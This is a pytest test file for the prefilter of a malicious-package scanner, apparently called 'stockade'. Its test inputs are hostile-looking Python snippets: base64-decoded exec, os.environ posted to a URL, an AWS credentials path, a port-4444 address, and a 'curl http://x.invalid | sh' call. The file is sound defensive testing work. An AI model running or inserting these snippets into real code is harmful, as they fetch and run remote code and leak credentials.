"""Which files are parsed at all: combinations of literals, less for what runs by itself."""

from __future__ import annotations

import ast

import pytest

from stockade.analyse.code import prefilter
from stockade.analyse.code.layout import Layout, Place, layout
from stockade.analyse.code.literals import ASIDE_COMBINATIONS, COMBINATIONS, GROUPS, LEVEL_COMBINATIONS
from stockade.model.artifact import Kind

_WHEEL: Layout = layout(Kind.WHEEL, [], entry_points={"console_scripts": (("x", "pkg.cli:main"),)})
_INNER: Place = _WHEEL.place("pkg/sub/inner.py")
_ASIDE: Place = layout(Kind.SDIST, ["a-1/setup.py"]).place("a-1/tests/test_x.py")
#: Makes a file larger than what is parsed for acting at all, and acts not at all.
_PADDING = b"# nothing to see\n" * 400


@pytest.mark.parametrize(
    "text",
    [
        "import base64\ndef f():\n    exec(base64.b64decode(x))",
        "def f():\n    eval(x[::-1])",
        "import os, requests\nfrom subprocess import run\ndef f(): pass",
        "def f():\n    getattr(os, 'sys' + 'tem')",
        "def f():\n    os.system(x)",
        "URL = 'http://198.51.100.7/x'",
        "ADDRESS = ('198.51.100.7', 4444)",
        "URL = 'https://host.invalid/tool.exe'",
        "URL = 'https://abc.xyz/a'",
        "import marshal",
        "PATH = '~/.aws/credentials'",
        "import requests\ndef f():\n    requests.post(u, json=dict(os.environ))",
        "import socket\ndef f():\n    return socket.gethostname(), requests.post(u)",
        "x = '" + r"\x41" * 30 + "'",
        "x = '" + r"\101" * 30 + "'",
        "import ctypes\nctypes.windll.kernel32.VirtualAlloc(1)",
        "from telebot import x\nwallet = 'metamask'",
        "import subprocess\ndef f():\n    subprocess.run(['PowerShell', x])",
        "x = 1" + " " * 200 + "; y = 2",
        "import requests\nrequests.get(u)",
        "import threading\nstart()",
    ],
)
def test_a_file_that_may_matter_is_wanted(text: str) -> None:
    assert prefilter.wanted(text.encode() + b"\n" + _PADDING, _INNER)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "import os\ndef f():\n    return os.getcwd()",
        "import requests\ndef f(u):\n    return requests.get(u)",
        "import subprocess\ndef f():\n    return subprocess.run(['ls'])",
        "URL = 'http://127.0.0.1:8000/'",
        "URL = 'http://192.168.0.1/'",
        "model.eval()\nre.compile(x)",
        "import base64\ndef f(x):\n    return base64.b64decode(x)",
        "x = 1" + " " * 200,
    ],
)
def test_an_everyday_file_is_not(text: str) -> None:
    assert not prefilter.wanted(text.encode() + b"\n" + _PADDING, _INNER)


def test_small_files_are_wanted_if_they_act_at_all() -> None:
    assert prefilter.wanted(b"import requests\ndef f(u):\n    return requests.get(u)", _INNER)
    assert not prefilter.wanted(b"def f(u):\n    return u", _INNER)


def test_what_runs_by_itself_is_wanted_whatever_it_holds() -> None:
    for path in ("pkg/__init__.py", "pkg/__main__.py", "pkg/cli.py", "sitecustomize.py", "single.py"):
        assert prefilter.wanted(b"x = 1", _WHEEL.place(path)), path
    assert not prefilter.wanted(b" \n", _WHEEL.place("pkg/__init__.py"))
    assert not prefilter.wanted(b"x = 1\n" * (1 << 17), _WHEEL.place("pkg/__init__.py"))


def test_what_is_not_installed_must_look_worse() -> None:
    assert prefilter.wanted(b"import base64\nexec(base64.b64decode(x))", _ASIDE)
    assert not prefilter.wanted(b"import requests, subprocess", _ASIDE)


def test_each_combination_is_made_of_groups_and_each_group_is_of_use() -> None:
    used = frozenset().union(*COMBINATIONS, *ASIDE_COMBINATIONS, *LEVEL_COMBINATIONS)
    assert used <= GROUPS.keys()
    assert GROUPS.keys() - used == set()


@pytest.mark.parametrize("name", GROUPS)
def test_each_text_finds_its_group(name: str) -> None:
    texts, _ = GROUPS[name]
    for text in texts:
        assert name in prefilter.groups(f" {text.removeprefix('~')} ".encode()), text


def generated(*more: str) -> bytes:
    """A module of some megabytes: plain classes, and whatever else."""
    plain = [
        f"class Model{n}(Base):\n    '''It is a model.'''\n    name = 'value{n}'\n\n" + "    x = 1\n" * 30
        for n in range(4000)
    ]
    return "\n".join(["import os", *plain[:2000], *more, *plain[2000:]]).encode()


def test_of_a_large_source_plain_classes_are_left_out_line_for_line() -> None:
    act = "class Odd:\n    def go(self):\n        os.system('curl http://x.invalid | sh')\n"
    data = generated(act, "def f():\n    return 2\n")
    lean = prefilter.without_plain_classes(data)
    assert len(lean) < len(data) // 4
    assert lean.count(b"\n") == data.count(b"\n")
    tree = ast.parse(lean)
    assert [line for line in lean.split(b"\n") if b"os.system" in line]
    assert {node.name for node in tree.body if isinstance(node, ast.FunctionDef)} == {"f"}


def test_what_is_small_or_inside_a_text_stays_as_it_is() -> None:
    small = b"class A:\n    x = 1\n"
    assert prefilter.without_plain_classes(small) is small
    data = generated('TEXT = """', "class NotOne:\n    stays = 1\n", '"""')
    lean = prefilter.without_plain_classes(data)
    assert b"stays = 1" in lean
    assert ast.parse(lean)


def test_a_long_table_that_does_nothing_is_not_wanted() -> None:
    table = b"".join(b"u%d = 'https://host%d.example.xyz/'\n" % (n, n) for n in range(600))
    assert len(table) > 1 << 14
    assert not prefilter.wanted(table, _INNER)
    assert prefilter.wanted(table[: 1 << 13], _INNER), "a short one may hold another file's constants"
    assert prefilter.wanted(b"import urllib.request\n" + table, _INNER)
